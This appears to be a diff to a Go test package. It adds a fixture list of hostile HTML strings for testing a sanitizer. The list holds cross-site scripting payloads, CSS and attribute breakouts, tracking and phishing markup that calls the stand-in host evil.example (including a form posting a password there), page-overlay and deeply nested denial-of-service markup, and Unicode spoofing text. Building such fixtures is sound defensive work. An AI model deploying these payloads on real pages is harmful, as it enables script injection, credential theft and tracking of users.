@@ -1,5 +1,7 @@
 package testenv
 
+import "strings"
+
 // HostileHTML are pieces of HTML that run a script, or break out of where they stand, on a page that shows them as they
 // are or after a careless cleaning: those that parsers see differently the second time among them.
 func HostileHTML() []string {
@@ -35,5 +37,33 @@ func HostileHTML() []string {
 		`&lt;img src=x onerror=alert(1)&gt;`, `<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>`, `<p class="</p><script>alert(1)</script>">x</p>`,
 		`<a href="https://e.example/&quot; onclick=alert(1) x=&quot;">x</a>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
 		`<div id=ran>x</div><a id=out href=x>clobber</a><form id=document></form>`, `<b><i><p></b></i><script>alert(1)</script></p>`,
+	}
+}
+
+// GreedyHTML are pieces of HTML that ask other servers for something, take the place of what is around them, or cost much
+// where they are shown as they are.
+func GreedyHTML() []string {
+	return []string{
+		`</template><img src=x onerror=alert(1)>`, `<template data-swap="main"><img src=x onerror=alert(1)></template>`, `<div id=toast data-swap=main>x</div><ol id=thread></ol>`,
+		`</style><script>alert(1)</script>`, `<p style="color:red}</style><script>alert(1)</script>">x</p>`, `<p style="font-family:'</style><img src=x onerror=alert(1)>'">x</p>`,
+		`<table width="600"><tr><td style="background:url(&quot;//evil.example/x.png&quot;);width:expression(alert(1));behavior:url(x)">x</td></tr></table>`,
+		`<table background="//evil.example/x.png"><tr background="//evil.example/y.png"><td background="//evil.example/z.png">x</td></tr></table>`,
+		`<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x;position:fixed;inset:0}</style>`, `<link rel="dns-prefetch preconnect prefetch" href="//evil.example/">`,
+		`<p style="list-style-image:url(//evil.example/x.png);cursor:url(//evil.example/y.cur),auto;content:url(//evil.example/z)">x</p>`,
+		`<p style="background-image:\75\72\6c(//evil.example/x.png);background:image-set('//evil.example/y.png' 1x)">x</p>`,
+		`<picture><source srcset="//evil.example/x.png"><img src="//evil.example/y.png"></picture>`, `<video poster="//evil.example/x.png" src="//evil.example/x.mp4" autoplay></video>`,
+		`<svg><image href="//evil.example/x.png"/><use href="//evil.example/x.svg#x"/></svg>`, `<input type=image src="//evil.example/x.png">`, `<img src="//evil.example/x.png" loading=eager>`,
+		`<a href="https://e.example" ping="//evil.example/" target=_top>x</a>`, `<a href="https://e.example" target=_parent download=x.exe>x</a>`, `<a href="/desk/sign-out">x</a><img src="/desk/sign-out">`,
+		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`, `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
+		`<meta http-equiv="refresh" content="0;url=//evil.example/">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<meta name=referrer content=unsafe-url>`,
+		`<base target="_top"><base href="//evil.example/"><a href="x">x</a>`, `<form action="//evil.example/" method=post><input name=password autofocus><input type=submit></form><button form=composer>x</button>`,
+		`<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>`, `<marquee width=9999 height=9999 scrollamount=999>x</marquee>`,
+		`<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">over all</div>`, `<div style="margin:-900px;padding:900px;transform:scale(99);float:left">over all</div>`,
+		`<table width="99999" height="99999" border=9999 cellpadding=999 bgcolor=red><tr><td nowrap>over all</td></tr></table>`, `<img src="cid:none" width=99999 height=99999 border=999 hspace=999 vspace=999>`,
+		`<p style="font-size:9999px;line-height:0;letter-spacing:-99px;text-indent:-9999px;word-spacing:9999px">over all</p>`, `<font size=99>over</font><pre>` + strings.Repeat("wide ", 2000) + `</pre>`,
+		`<p>` + strings.Repeat("x", 20_000) + `</p>`, `<p>` + strings.Repeat("Z\u0335\u0321\u0310\u0306\u0352\u031a", 200) + strings.Repeat("\u0e49", 500) + `</p>`, "<p>\u202e\u2066exe.fdp \u202d</p><bdo dir=rtl>rtl", "<p>a\u200b\u200d\ufeff\u00ad\u2028\u2029b</p>",
+		strings.Repeat("<div>", 3000) + "deep" + strings.Repeat("</b>", 3000), strings.Repeat("<table><tr><td>", 300) + "deep", strings.Repeat("<blockquote>", 600) + "deep", strings.Repeat("<ul><li>", 300) + "deep",
+		"<table>" + strings.Repeat("<tr><td>x</td></tr>", 3000), "<table><tr>" + strings.Repeat("<td width=100>x</td>", 1000), strings.Repeat("<a href=https://e.example/>", 2000), strings.Repeat("<b id=x", 2000),
+		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>\x1b(B",
 	}
 }
